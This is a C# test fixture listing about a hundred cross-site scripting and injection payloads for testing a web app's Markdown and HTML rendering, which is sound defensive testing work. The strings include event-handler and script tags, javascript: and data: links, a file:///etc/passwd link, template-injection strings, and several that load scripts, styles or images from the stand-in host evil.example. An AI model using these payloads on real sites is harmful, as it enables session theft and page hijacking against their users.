namespace LocalRag.Web.Tests.Rendering;

/// <summary>A hundred attempts to get a script, a frame, a style or a request into a page, as Markdown, code, front matter, questions or file names.</summary>
internal static class Payloads
{
    private static readonly string[] Scripts =
    [
        "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script\n>alert(1)</script\n>", "<svg><script>alert(1)</script></svg>",
        "<img src=x onerror=alert(1)>", "<img src='x' onerror='alert(1)'/>", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
        "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=//evil.example/x.swf>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import url(//evil.example/x.css);</style>", "<style>body{background:url(//evil.example/x)}</style>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
        "<form action=//evil.example><input name=q><button>go</button></form>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<video src=x onerror=alert(1)>",
        "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<math><mtext><script>alert(1)</script></mtext></math>", "<a href=javascript:alert(1)>x</a>",
        "<div style='background:url(//evil.example/x)'>x</div>", "<div onclick=alert(1)>x</div>", "<p onmouseover=alert(1)>x</p>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
        "<!--<img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo '<script>alert(1)</script>'; ?>", "<isindex action=javascript:alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    ];

    private static readonly string[] Markdown =
    [
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x]( javascript:alert(1))", "[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))", "[x](vbscript:msgbox(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](file:///etc/passwd)",
        "[x](<javascript:alert(1)>)", "<javascript:alert(1)>", "<javascript:alert('x')>", "![x](https://evil.example/x.png)", "![x](//evil.example/x.png)",
        "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "[![x](https://evil.example/a.png)](https://evil.example)", "[x]: javascript:alert(1)\n\n[x]", "[x]: //evil.example/x.png\n\n![x]",
        "[x](https://evil.example \"a\" onmouseover=\"alert(1)\")", "[x](https://evil.example 'x\" onclick=\"alert(1)')", "# x {onclick=alert(1)}", "[x](#){onclick=alert(1)}", "x{.cite onclick=alert(1)}",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "- [x] <img src=x onerror=alert(1)>", "> <script>alert(1)</script>", "1. <svg onload=alert(1)>", "`<script>alert(1)</script>`",
        "```html\n<script>alert(1)</script>\n```", "```\"><img src=x onerror=alert(1)>\ncode\n```", "```csharp onmouseover=alert(1)\nvar x = 1;\n```", "    <script>alert(1)</script>", "~~~<script>\nx\n~~~",
        "[1](javascript:alert(1))", "[1]: javascript:alert(1)\n\n[1]", "**[1]<img src=x onerror=alert(1)>**", "[1][<script>alert(1)</script>]", "[x](https://evil.example/\"onmouseover=\"alert(1))",
    ];

    private static readonly string[] Others =
    [
        "---\ntitle: <script>alert(1)</script>\n---\n# x", "---\nimage: https://evil.example/x.png\n---\n", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "</code></pre><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= 7*7 %><script>alert(1)</script>",
        "\u0000<script>alert(1)</script>", "<\u0000script>alert(1)</script>", "\u202e<script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "// <img src=x onerror=alert(1)>\nvar x = \"<script>alert(1)</script>\";", "/* </span><script>alert(1)</script> */ class A { }", "=<img src=x onerror=alert(1)>==",
    ];

    public static IReadOnlyList<string> All { get; } = [.. Scripts, .. Markdown, .. Others];
}
